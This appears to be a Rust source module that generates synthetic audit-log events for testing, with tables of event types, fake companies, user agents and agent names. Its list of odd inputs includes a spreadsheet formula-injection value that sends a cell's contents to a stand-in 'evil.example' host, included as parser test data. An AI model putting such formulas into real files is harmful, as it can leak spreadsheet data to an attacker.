//! What happens in the sample: the types of events from `kinds.txt`, the words from
//! `words.txt`, and the few tables that are not plain text.

use rand::rngs::SmallRng;

use super::people::By;
use super::render::below;
use super::template::Template;
use crate::columns::CLASSIFICATIONS;

const KINDS: &str = include_str!("kinds.txt");
const WORDS: &str = include_str!("words.txt");

/// A type of event, ready to be written.
#[derive(Debug)]
pub(super) struct Kind {
    /// How often, relative to the others.
    pub(super) weight: u32,
    /// Who does it.
    pub(super) by: By,
    /// `","type":"…","occurred_at":"`, rendered.
    pub(super) head: Vec<u8>,
    pub(super) target: Template,
    /// The outcome of most of them, rendered.
    pub(super) usual: Vec<u8>,
    pub(super) denied: Template,
    pub(super) failed: Template,
    pub(super) data: Template,
    /// Whether a tool is used under a policy.
    pub(super) governed: bool,
    /// Whether a session begins with it.
    pub(super) opens_session: bool,
    /// Whether it happens outside of any session.
    pub(super) anonymous: bool,
    classifications: Vec<Vec<u8>>,
    denied_per_mille: u32,
    failed_per_mille: u32,
}

/// How an event ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Verdict {
    Usual,
    Denied,
    Failed,
}

impl Kind {
    #[inline]
    pub(super) fn verdict(&self, rng: &mut SmallRng) -> Verdict {
        let draw = below(1000, rng);
        if draw < self.denied_per_mille {
            Verdict::Denied
        } else if draw < self.denied_per_mille + self.failed_per_mille {
            Verdict::Failed
        } else {
            Verdict::Usual
        }
    }

    /// `,"classification":…`, or nothing. The same thing is always classified the same.
    #[inline]
    pub(super) fn classification(&self, object: u64) -> &[u8] {
        match self.classifications.len() {
            0 => b"",
            count => &self.classifications[(object >> 4) as usize % count],
        }
    }

    /// Reads one line of the table.
    fn read(line: &'static str) -> Option<Self> {
        let mut cells = line.split('|');
        let name = cells.next()?;
        let weight = cells.next()?.parse().ok()?;
        let by = match cells.next()? {
            "user" => By::User,
            "admin" => By::Admin,
            "service" => By::Service,
            "agent" => By::Agent,
            "system" => By::System,
            _ => return None,
        };
        let (denied_per_mille, failed_per_mille) = cells.next()?.split_once(' ')?;
        let usual = cells.next()?;
        let classes = match cells.next()? {
            "" => Vec::new(),
            "*" => CLASSIFICATIONS.to_vec(),
            class => vec![class],
        };
        let (target, data) = (cells.next()?, cells.next()?);
        let faults = if name.starts_with("user.") { SIGN_IN_FAULTS } else { WORK_FAULTS };
        let class = |class: &&str| format!(",\"classification\":\"{class}\"").into_bytes();
        Some(Self {
            weight,
            by,
            head: format!("\",\"type\":\"{name}\",\"occurred_at\":\"").into_bytes(),
            target: Template::target(target),
            usual: format!(",\"outcome\":\"{usual}\"").into_bytes(),
            denied: Template::new(REFUSALS),
            failed: Template::new(faults),
            data: Template::data(data),
            governed: name.starts_with("tool."),
            opens_session: name == "user.signed_in",
            anonymous: name == "user.sign_in_failed" || name == "user.password_reset_requested",
            classifications: classes.iter().map(class).collect(),
            denied_per_mille: denied_per_mille.parse().ok()?,
            failed_per_mille: failed_per_mille.parse().ok()?,
        })
    }
}

/// Every type of event.
pub(super) fn kinds() -> Vec<Kind> {
    KINDS.lines().filter(|line| !line.starts_with('#')).filter_map(Kind::read).collect()
}

/// Every list of words, under its letter.
pub(super) fn lists() -> Vec<(u8, Vec<&'static str>)> {
    let lines = WORDS.lines().filter(|line| !line.starts_with('#'));
    let list = |line: &'static str| {
        let (letter, words) = line.split_once('=')?;
        Some((letter.bytes().next()?, words.split('|').collect::<Vec<_>>()))
    };
    lines.filter_map(list).collect()
}

/// The list under this letter.
pub(super) fn list(letter: u8) -> Vec<&'static str> {
    let found = lists().into_iter().find(|(listed, _)| *listed == letter);
    found.map(|(_, words)| words).unwrap_or_default()
}

/// First and last names, each with its form in addresses.
#[derive(Debug)]
pub(super) struct Names {
    pub(super) first: Vec<(&'static str, &'static str)>,
    pub(super) last: Vec<(&'static str, &'static str)>,
}

impl Names {
    pub(super) fn new() -> Self {
        let names = |letter| list(letter).into_iter().filter_map(|name| name.split_once('/'));
        Self { first: names(b'F').collect(), last: names(b'L').collect() }
    }
}

const REFUSALS: &str = ",\"outcome\":\"denied\",\"reason\":\"$A\"";
const SIGN_IN_FAULTS: &str = ",\"outcome\":\"failure\",\"reason\":\"$S\"";
const WORK_FAULTS: &str = ",\"outcome\":\"failure\",\"reason\":\"$W\"";
/// What a tool event says when its policy lets it pass.
pub(super) const POLICY_ALLOWED: &str =
    ",\"tool\":\"$T\",\"policy\":{\"name\":\"$g\",\"result\":\"allow\"}";
/// And when not.
pub(super) const POLICY_REFUSED: &str =
    ",\"tool\":\"$T\",\"policy\":{\"name\":\"$g\",\"result\":\"deny\",\"reason\":\"$A\"}";

/// Name, hours ahead of UTC, country.
pub(super) const COMPANIES: [(&str, i64, &str); 16] = [
    ("harborline", -5, "US"),
    ("quillworks", 1, "DE"),
    ("bluefern", 0, "GB"),
    ("oakember", -8, "US"),
    ("kestrelpay", 1, "FR"),
    ("mapleforge", -5, "CA"),
    ("sakuradata", 9, "JP"),
    ("northmoor", 2, "FI"),
    ("tidewell", 10, "AU"),
    ("rosalia", -3, "BR"),
    ("lumenhealth", -6, "US"),
    ("papercrane", 8, "SG"),
    ("ventura-labs", 1, "ES"),
    ("cobaltworks", 5, "IN"),
    ("alpenglow", 1, "CH"),
    ("redcedar", -7, "US"),
];

pub(super) const COUNTRIES: [&str; 18] = [
    "US", "DE", "GB", "FR", "CA", "JP", "FI", "AU", "BR", "SG", "ES", "IN", "CH", "NL", "PL", "SE",
    "MX", "ZA",
];

pub(super) const NAMESPACES: [&str; 4] = ["production", "staging", "sandbox", "eu-central"];
pub(super) const ROLES: [&str; 5] = ["member", "member", "viewer", "team_lead", "auditor"];
pub(super) const SERVICES: [&str; 6] =
    ["ci-runner", "billing-sync", "edge-gateway", "directory-sync", "data-loader", "vault-agent"];
pub(super) const AGENTS: [&str; 3] = ["support-copilot", "code-reviewer", "runbook-operator"];

/// What machines call themselves.
pub(super) const PROGRAMS: [&str; 8] = [
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "axios/1.7.9",
    "curl/8.11.1",
    "reqwest/0.12.9",
    "aws-sdk-java/2.29.45",
    "node-fetch/3.3.2",
];

/// What browsers and apps call themselves, the most common first.
pub(super) const BROWSERS: [&str; 14] = [
    "ConsoleApp/5.4.1 (macOS 15.2; arm64)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "ConsoleApp/5.4.0 (Windows 11; x64)",
    "ConsoleMobile/3.12 (iOS 18.2; iPhone16,1)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
    "ConsoleMobile/3.12 (Android 15; Pixel 9)",
    "console-cli/1.18.2 (linux; amd64)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 \
     Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "console-cli/1.17.0 (darwin; arm64)",
    "terraform-provider-console/0.9.3",
    "PostmanRuntime/7.43.0",
    "curl/8.5.0",
];

/// What people type that programs trip over: formulas, quotes, line ends, separators.
pub(super) const ODD: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open me\")",
    "=1+1",
    "+31 20 555 0100",
    "-2 days, then back",
    "@SUM(A1:A9)",
    "She said \"fine\",\nso we went ahead",
    "C:\\temp\\new\\report.csv",
    "tab\tseparated\tvalues",
    "two lines\r\nfrom a form",
    "🎉 done; a,b;c|d",
    "عاجل",
    "O'Neil's 100% \u{2028}plan</script>",
];
